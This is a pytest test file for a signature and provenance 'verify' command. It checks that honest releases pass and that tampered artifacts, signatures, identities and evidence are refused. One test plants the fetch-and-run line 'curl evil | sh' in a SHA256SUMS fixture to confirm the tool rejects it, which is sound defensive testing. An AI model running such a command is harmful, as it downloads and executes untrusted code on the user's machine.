"""``verify``, as a user meets it: what passes, what does not and why, and what is taken for evidence."""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from fixtures.build import VECTORS
from fixtures.recipes.scene import policy_file

from .conftest import Program
from .running import Ran
from .scene import BY_FLAGS, BY_POLICY, IDENTITY, ISSUER, NAME, NOW, OTHER, POLICY, RELEASE

Report = dict[str, Any]


def reports(ran: Ran) -> list[Report]:
    return [json.loads(line)["predicate"] for line in ran.output.splitlines()]


def reasons(ran: Ran) -> set[str]:
    """The reasons of a JSON run, findings apart."""
    return {check["reason"] for report in reports(ran) for check in report["checks"] if check["outcome"] != "PASSED"}


@pytest.mark.parametrize("flags", [BY_POLICY, BY_FLAGS], ids=["policy", "flags"])
def test_an_honest_release_passes(scene: Path, program: Program, flags: tuple[str, ...]) -> None:
    ran = program("verify", NAME, *flags)
    assert (ran.code, ran.errors) == (0, b"")
    assert ran.text.startswith(f"PASSED  {NAME}  sha256:")
    assert "signed by release.yml of acme/endpoint at refs/tags/v7.1.0, logged 2026-03-02 11:04 UTC" in " ".join(
        ran.text.split()
    )


def test_the_policy_that_flags_build_is_the_one_that_a_file_of_it_is(scene: Path, program: Program) -> None:
    printed = program("verify", *BY_FLAGS, "--print-policy")
    assert printed.code == 0
    (scene / "printed.toml").write_bytes(printed.output)
    by_flags = reports(program("verify", NAME, *BY_FLAGS, "--format", "json"))
    by_file = reports(
        program(
            "verify", NAME, "--policy", "printed.toml", "--trust", "trusted_root.json", "--now", NOW, "--format", "json"
        )
    )
    assert by_flags == by_file
    assert by_flags[0]["policy"]["id"] == "flags"


def _alter_artifact(here: Path) -> None:
    (here / NAME).write_bytes(RELEASE.content[:-1] + b"\0")


def _alter_signature(here: Path) -> None:
    path = here / f"{NAME}.sigstore.json"
    tree = json.loads(path.read_bytes())
    signature = tree["dsseEnvelope"]["signatures"][0]["sig"]
    tree["dsseEnvelope"]["signatures"][0]["sig"] = (
        signature[:20] + ("A" if signature[20] != "A" else "B") + signature[21:]
    )
    path.write_text(json.dumps(tree))


def _take_another_release(here: Path) -> None:
    (here / f"{NAME}.sigstore.json").write_bytes(bytes(OTHER.bundle()))


def _take_another_tag(here: Path) -> None:
    altered = POLICY.set("/require/0/ref", "refs/tags/v7.2.0")
    (here / "policy.toml").write_bytes(policy_file(altered).content)


def _take_evidence_away(here: Path) -> None:
    (here / f"{NAME}.sigstore.json").unlink()


def _truncate_evidence(here: Path) -> None:
    path = here / f"{NAME}.sigstore.json"
    path.write_bytes(path.read_bytes()[:-100])


@pytest.mark.parametrize(
    ("change", "code", "reason"),
    [
        (_alter_artifact, 1, "subject.mismatch"),
        (_alter_signature, 1, "signature.invalid"),
        (_take_another_tag, 1, "source.ref"),
        (_take_evidence_away, 3, "evidence.absent"),
        (_truncate_evidence, 1, "json.malformed"),
    ],
)
def test_one_thing_wrong_is_refused_by_its_name(
    scene: Path, program: Program, change: Callable[[Path], None], code: int, reason: str
) -> None:
    change(scene)
    ran = program("verify", NAME, *BY_POLICY, "--format", "json")
    assert (ran.code, reasons(ran)) == (code, {reason})


def test_evidence_of_another_release_is_refused(scene: Path, program: Program) -> None:
    _take_another_release(scene)
    ran = program("verify", NAME, *BY_POLICY, "--format", "json")
    assert ran.code == 1
    assert "signer.identity" in reasons(ran)


@pytest.mark.parametrize(
    ("flag", "value", "reason"),
    [
        ("--identity", IDENTITY.replace("acme", "acme-evil"), "signer.identity"),
        ("--issuer", "https://token.actions.example", "signer.issuer"),
    ],
)
def test_another_identity_is_refused(scene: Path, program: Program, flag: str, value: str, reason: str) -> None:
    flags = list(BY_FLAGS)
    flags[flags.index(flag) + 1] = value
    ran = program("verify", NAME, *flags, "--format", "json")
    assert ran.code == 1
    assert any(found.startswith("signer.") for found in reasons(ran)), reason


def test_evidence_beside_the_artifact_is_taken_and_named(scene: Path, program: Program) -> None:
    ran = program("verify", NAME, *BY_POLICY)
    assert f"evidence found beside it: {NAME}.sigstore.json" in ran.text


@pytest.mark.parametrize(
    "suffix", [".sigstore.json", ".sigstore", ".bundle", ".intoto.jsonl", ".provenance", ".publish.attestation"]
)
def test_six_names_are_looked_for(scene: Path, program: Program, suffix: str) -> None:
    (scene / f"{NAME}.sigstore.json").rename(scene / f"{NAME}{suffix}")
    assert program("verify", NAME, *BY_POLICY).code == 0


@pytest.mark.parametrize(
    "name", ["evidence.sigstore.json", f"{NAME}.json", f"{NAME}.SIGSTORE.JSON", "attestation.bundle"]
)
def test_t71_and_no_other_is(scene: Path, program: Program, name: str) -> None:
    (scene / f"{NAME}.sigstore.json").rename(scene / name)
    ran = program("verify", NAME, *BY_POLICY, "--format", "json")
    assert (ran.code, reasons(ran)) == (3, {"evidence.absent"})


def test_t93_a_link_beside_the_artifact_is_not_taken(scene: Path, program: Program) -> None:
    (scene / f"{NAME}.sigstore.json").rename(scene / "elsewhere.json")
    (scene / f"{NAME}.sigstore.json").symlink_to("elsewhere.json")
    assert program("verify", NAME, *BY_POLICY).code == 3


def test_what_is_given_is_taken_instead_of_what_stands_beside(scene: Path, program: Program) -> None:
    (scene / f"{NAME}.sigstore.json").rename(scene / "given.json")
    (scene / f"{NAME}.sigstore.json").write_bytes(b"garbage")
    ran = program("verify", NAME, "-e", "given.json", *BY_POLICY)
    assert ran.code == 0
    assert "found beside" not in ran.text


def test_a_directory_of_evidence_is_searched_without_following_links(scene: Path, program: Program) -> None:
    deep = scene / "evidence" / "deep"
    deep.mkdir(parents=True)
    (scene / f"{NAME}.sigstore.json").rename(scene / "outside.json")
    (deep / "link.json").symlink_to(scene / "outside.json")
    (deep / "README").write_bytes(b"no evidence")
    assert program("verify", NAME, "-e", "evidence", *BY_POLICY).code == 3
    (scene / "outside.json").rename(deep / "bundle.json")
    assert program("verify", NAME, "-e", "evidence", *BY_POLICY).code == 0


def test_t91_too_many_files_of_evidence_are_refused_unless_a_flag_says_so(scene: Path, program: Program) -> None:
    (scene / "evidence").mkdir()
    for number in range(257):
        (scene / "evidence" / f"{number}.json").write_bytes(b"{}")
    assert program("verify", NAME, "-e", "evidence", *BY_POLICY).reason == "limit.evidence_files"
    ran = program("verify", NAME, "-e", "evidence", "--limit", "evidence_files=300", *BY_POLICY, "--format", "json")
    assert reports(ran)[0]["raisedLimits"] == ["evidence_files=300"]


def test_t91_huge_evidence_is_refused_unread_and_a_flag_raises_the_limit(scene: Path, program: Program) -> None:
    path = scene / f"{NAME}.sigstore.json"
    path.write_bytes(path.read_bytes() + b" " * (5 << 20))
    ran = program("verify", NAME, *BY_POLICY, "--format", "json")
    assert (ran.code, reasons(ran)) == (4, {"limit.bundle"})
    ran = program("verify", NAME, *BY_POLICY, "--limit", "bundle=8MiB")
    assert ran.code == 0
    assert "limits raised by flag: bundle=8388608" in ran.text


def test_a_digest_alone_is_judged_and_what_was_not_seen_is_said(scene: Path, program: Program) -> None:
    ran = program("verify", f"sha256:{RELEASE.sha256}", "-e", f"{NAME}.sigstore.json", *BY_POLICY)
    assert ran.code == 0
    assert "bytes.not_seen" in ran.text


@pytest.mark.parametrize(
    "digest", ["sha256:", "sha256:abc", "sha256:" + "A" * 64, "sha512:" + "0" * 64, "sha1:" + "0" * 40, "md5:0"]
)
def test_t07_a_digest_is_written_in_one_way(scene: Path, program: Program, digest: str) -> None:
    ran = program("verify", digest, "-e", f"{NAME}.sigstore.json", *BY_POLICY, "--format", "json")
    assert (ran.code, reasons(ran)) == (4, {"digest.malformed"})


def test_each_artifact_has_its_verdict_and_the_worst_counts(scene: Path, program: Program) -> None:
    (scene / "other").write_bytes(b"other")
    ran = program("verify", NAME, "other", "absent", *BY_POLICY)
    assert ran.code == 4
    first_words = [block.split()[0] for block in ran.text.split("\n\n")]
    assert first_words == ["PASSED", "INCOMPLETE", "ERROR", "ERROR"]
    assert ran.text.endswith("ERROR  3 artifacts: 1 PASSED, 1 INCOMPLETE, 1 ERROR\n")


def test_json_is_one_report_a_line(scene: Path, program: Program) -> None:
    ran = program("verify", NAME, "absent", *BY_POLICY, "--format", "json")
    assert [report["outcome"] for report in reports(ran)] == ["PASSED", "ERROR"]


def test_quiet_says_nothing_and_the_code_tells(scene: Path, program: Program) -> None:
    ran = program("verify", NAME, *BY_POLICY, "-q")
    assert (ran.code, ran.output, ran.errors) == (0, b"", b"")
    _alter_artifact(scene)
    ran = program("verify", NAME, *BY_POLICY, "-q")
    assert (ran.code, ran.output, ran.errors) == (1, b"", b"")


@pytest.mark.parametrize("form", ["text", "json"])
def test_a_file_takes_what_the_screen_would(scene: Path, program: Program, form: str) -> None:
    shown = program("verify", NAME, *BY_POLICY, "--format", form)
    written = program("verify", NAME, *BY_POLICY, "--format", form, "-o", "verdict")
    assert (written.code, written.output) == (0, b"")
    assert (scene / "verdict").read_bytes() == shown.output


def test_names_outside_ascii_and_outside_any_encoding_are_verified(scene: Path, program: Program) -> None:
    name = "dörten-日本-" + os.fsdecode(b"\xff\xfe") + "\n.exe"
    (scene / NAME).rename(scene / name)
    (scene / f"{NAME}.sigstore.json").rename(scene / f"{name}.sigstore.json")
    ran = program("verify", name, *BY_POLICY, "--record", "record")
    assert ran.code == 0
    assert ran.text.startswith("PASSED  dörten-日本-\\xff\\xfe\\x0a.exe")
    assert program("verify", name, *BY_POLICY, "--format", "json").code == 0
    assert program("replay", "record", "--artifact", name).code == 0


def test_t71_nothing_about_trust_or_policy_is_discovered(
    scene: Path, program: Program, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Neither environment nor files of likely names supply what a command line leaves out."""
    for name in ("COUNTERSIGN_POLICY", "COUNTERSIGN_IDENTITY", "COUNTERSIGN_VERIFY_IDENTITY", "SIGSTORE_ROOT_FILE"):
        monkeypatch.setenv(name, IDENTITY)
    for name in (".countersign.toml", "countersign.toml", "sigstore", "world"):
        (scene / name).write_bytes((scene / "policy.toml").read_bytes())
    assert program("verify", NAME, "--issuer", ISSUER).code == 2
    assert program("verify", NAME).code == 2
    assert program("verify", NAME, *BY_POLICY).code == 0


def test_t71_a_file_does_not_pass_for_a_named_root(scene: Path, program: Program) -> None:
    (scene / "trusted_root.json").rename(scene / "sigstore")
    flags = [value.replace("trusted_root.json", "sigstore") for value in BY_FLAGS]
    assert program("verify", NAME, *flags).code == 1
    assert program("verify", NAME, *[value.replace("sigstore", "./sigstore") for value in flags]).code == 0


def test_a_trust_root_that_the_policy_does_not_name_is_not_passed_over(scene: Path, program: Program) -> None:
    ran = program("verify", NAME, *BY_POLICY, "--trust", "sigstore-staging")
    assert ran.code == 4
    assert ran.reason == "trust.not_named"


def test_t51_an_old_trust_root_says_so(scene: Path, program: Program) -> None:
    flags = [value.replace("2026-03-14", "2026-09-14") for value in BY_POLICY]
    ran = program("verify", NAME, *flags, "--format", "json")
    assert (ran.code, reasons(ran)) == (4, {"trust.stale"})


def test_t91_a_huge_file_in_a_directory_of_evidence_is_left_out_and_said_to_be(scene: Path, program: Program) -> None:
    (scene / "evidence").mkdir()
    (scene / f"{NAME}.sigstore.json").rename(scene / "evidence" / "good.json")
    with (scene / "evidence" / "huge.json").open("wb") as file:
        file.truncate(1 << 40)
    ran = program("verify", NAME, "-e", "evidence", *BY_POLICY)
    assert ran.code == 0
    assert ran.errors.startswith(b"countersign: left out of the evidence: evidence/huge.json: ")
    assert program("verify", NAME, "-e", "evidence/huge.json", *BY_POLICY).reason == "limit.sbom"


@pytest.mark.parametrize("case", ["minisign-over-the-file", "ssh-over-the-file", "minisign-over-a-list"])
def test_a_detached_signature_or_a_signed_list_beside_the_artifact_is_found(
    here: Path, program: Program, case: str
) -> None:
    shutil.copytree(VECTORS / "detached" / case, "release")
    for path in Path("release").glob("endpoint.*sig"):
        path.rename(f"release/{NAME}{path.suffix}")
    (here / "release" / NAME).write_bytes(RELEASE.content)
    for name in ("policy.toml", "vendor.pub", "case.toml"):
        (here / "release" / name).rename(name)
    flags = ("--policy", "policy.toml", "--trust", "vendor.pub", "--now", NOW)
    ran = program("verify", f"release/{NAME}", *flags)
    assert ran.code == 0, ran.text
    assert "found beside it" in ran.text
    whole = program("verify", "release", *flags)
    assert (whole.code, "1 artifact: 1 PASSED" in whole.text) == (0, True), whole.text


def test_a_product_does_not_hide_under_the_name_of_a_list(scene: Path, program: Program) -> None:
    (scene / "product").mkdir()
    for name in (NAME, f"{NAME}.sigstore.json"):
        (scene / name).rename(scene / "product" / name)
    listed = f"{'0' * 64}  {NAME}\n".encode()
    (scene / "product" / "SHA256SUMS").write_bytes(listed + b"curl evil | sh\n")
    assert program("verify", "product", *BY_POLICY).code != 0
    (scene / "product" / "SHA256SUMS").write_bytes(listed)
    assert program("verify", "product", *BY_POLICY).code == 0


def test_a_key_in_a_file_may_be_who_is_expected(scene: Path, program: Program) -> None:
    vector = VECTORS / "good" / "key-ed25519"
    arguments = ("verify", NAME, "-e", str(vector / "evidence.sigstore.json"), "--now", NOW)
    passed = program(*arguments, "--key", str(vector / "key-1.pem"))
    assert (passed.code, "no trust root used" in passed.text, "days old" in passed.text) == (0, True, False)
    assert program(*arguments, "--key", str(VECTORS / "good" / "key-ecdsa-p256" / "key-1.pem")).code == 1
    assert program("trust", "add", "vendor", str(vector / "key-1.pem")).code == 0
    assert program(*arguments, "--key", "vendor").code == 0
